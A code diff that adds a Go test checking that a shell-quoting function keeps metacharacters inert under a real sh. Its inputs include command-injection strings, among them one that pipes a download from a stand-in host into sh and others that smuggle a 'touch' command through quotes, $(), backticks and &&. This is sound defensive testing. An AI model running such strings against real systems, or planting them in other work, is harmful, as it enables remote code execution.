@@ -1,6 +1,9 @@
 package escape
 
 import (
+	"os"
+	"os/exec"
+	"path/filepath"
 	"strings"
 	"testing"
 	"unicode"
@@ -103,5 +106,36 @@ func TestEveryFormatAndBidiCharacterIsEscaped(t *testing.T) {
 	}
 	if Log("a\u2060b") != `a\u2060b` {
 		t.Errorf("a lone word joiner: %q", Log("a\u2060b"))
+	}
+}
+
+// TestShellQuotesForARealShell: a word Shell quoted is one word to sh,
+// with every metacharacter inert: sh prints it back unchanged and runs
+// nothing (the marker file is never created).
+func TestShellQuotesForARealShell(t *testing.T) {
+	t.Parallel()
+	sh, err := exec.LookPath("sh")
+	if err != nil {
+		t.Skip("no sh")
+	}
+	marker := filepath.Join(t.TempDir(), "ran")
+	for _, s := range []string{
+		"0d5c; curl -s https://evil.example/p | sh; #",
+		"x'; touch " + marker + "; echo '",
+		"$(touch " + marker + ")", "`touch " + marker + "`", "a && touch " + marker,
+		"* ? [a] ~ {a,b} > out < in & ! \\ \" '' '",
+		"plain-id-1234",
+	} {
+		q := Shell(s)
+		out, err := exec.Command(sh, "-c", "printf '%s' "+q).Output()
+		if err != nil || string(out) != s {
+			t.Errorf("sh printed %q (%v) for %s, want %q", out, err, q, s)
+		}
+	}
+	if _, err := os.Stat(marker); err == nil {
+		t.Fatal("a quoted word ran a command")
+	}
+	if got := Shell("a\nb\u202ec"); got != `'a\nb\u202ec'` {
+		t.Errorf("control characters: %q", got)
 	}
 }
